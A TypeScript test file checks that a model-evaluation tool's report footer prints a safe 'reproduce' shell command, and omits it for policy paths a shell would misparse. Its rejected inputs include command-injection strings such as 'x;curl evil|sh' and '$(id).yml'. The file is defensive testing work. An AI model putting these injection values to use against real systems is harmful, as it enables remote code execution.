// The command under a page, which people paste into a shell.
import { passReport } from '@modelgate/testkit';
import { expect, test } from 'vitest';
import { footer, stableFooter } from './footer.ts';

const withPolicy = (path: string): ReturnType<typeof passReport> => {
  const report = passReport();
  const subjects = report.subjects.map((subject) => (subject.kind === 'policy' ? { ...subject, path } : subject));
  return { ...report, subjects };
};

test.each([
  ['modelgate.yml', '`modelgate run evaluate-model`'],
  ['.github/gates.yml', '`modelgate run evaluate-model --policy .github/gates.yml`'],
])('with the policy %s it is %s', (path, command) => {
  const report = withPolicy(path);
  for (const text of [footer(report), stableFooter([report])]) expect(text).toContain(`reproduce: ${command}`);
});

test('it names the policy that several gates share, and no gate', () => {
  const report = withPolicy('a/modelgate.yml');
  expect(stableFooter([report, report])).toContain('reproduce: `modelgate run --policy a/modelgate.yml`');
});

test.each(['x;curl evil|sh', '$(id).yml', '`id`.yml', 'two words.yml', '-x.yml', 'a&b.yml', '~/x.yml', ''])(
  'there is none with the policy %s, which a shell would take apart',
  (path) => expect(footer(withPolicy(path))).not.toContain('reproduce'),
);
